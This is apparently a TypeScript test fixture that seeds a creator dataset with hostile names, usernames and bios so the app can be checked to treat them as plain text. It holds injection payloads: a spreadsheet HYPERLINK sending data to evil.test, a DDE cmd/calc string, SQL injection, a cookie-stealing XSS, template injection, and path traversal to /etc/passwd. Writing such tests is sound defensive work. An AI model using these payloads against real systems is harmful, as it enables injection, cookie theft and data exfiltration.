import type { SandboxCreator } from '../../../src/main/sandbox/dataset/generate-dataset'

/**
 * Text an attacker controls (creator names and bios come from strangers; list names and notes
 * may be pasted from anywhere): spreadsheet formulas, SQL, markup, template and format strings,
 * control characters. Each must be stored and shown exactly as text.
 */
export const HOSTILE = [
  '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  "Robert'); DROP TABLE lists;--",
  '" OR "1"="1',
  '<img src=x onerror=alert(document.cookie)>',
  '<script>window.api</script>',
  '${process.env.MODASH_API_KEY}',
  '{{constructor.constructor("alert(1)")()}}',
  '%s%s%n%x',
  'line one\nline two, "quoted"',
  '\u202Etxt.exe',
  'nul\u0000byte',
  '../../../etc/passwd',
] as const

/** Usernames a creator could (almost) have, which become handles or are refused as handles. */
export const HOSTILE_USERNAMES = [
  '-danger.zone',
  '@@at.user',
  '=cmd',
  "o'brien; drop table creators",
  '<b>bold</b>',
  '+plus.sign',
] as const

/**
 * A copy of the dataset where some Instagram creators carry hostile names, usernames and bios,
 * with the most followers so they fill the first page of a default search.
 */
export function hostileDataset(base: readonly SandboxCreator[]): SandboxCreator[] {
  const copy = structuredClone(base as SandboxCreator[])
  const instagram = copy.filter((c) => c.platform === 'instagram')
  HOSTILE.forEach((text, i) => {
    const c = instagram[i]
    if (!c) throw new Error('dataset too small')
    c.fullname = text
    c.bio = text
    c.username = HOSTILE_USERNAMES[i % HOSTILE_USERNAMES.length] + (i < 6 ? '' : String(i))
    c.followers = 2_000_000_000 - i
    c.contacts = []
  })
  return copy
}
